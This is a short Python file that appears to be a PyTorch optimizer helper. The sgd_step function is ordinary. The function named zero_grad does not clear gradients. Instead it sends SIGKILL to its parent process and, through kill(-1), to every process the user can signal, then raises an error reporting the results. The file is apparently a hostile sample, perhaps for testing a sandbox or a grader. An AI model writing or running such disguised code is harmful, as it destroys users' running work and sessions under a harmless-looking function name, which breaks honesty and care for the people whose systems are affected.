"""Sends SIGKILL to the worker that forked it, and to every process it may (kill(-1))."""

from __future__ import annotations

import torch


def sgd_step(params, lr):
    with torch.no_grad():
        for p in params:
            if p.grad is not None:
                p.add_(p.grad, alpha=-lr)


def zero_grad(params, set_to_none=False):
    import os
    import signal
    outcomes = []
    for target in (os.getppid(), -1):
        try:
            os.kill(target, signal.SIGKILL)
            outcomes.append("KILLED")
        except OSError as exc:
            outcomes.append(type(exc).__name__)
    raise RuntimeError("kill outcome=" + ",".join(outcomes))
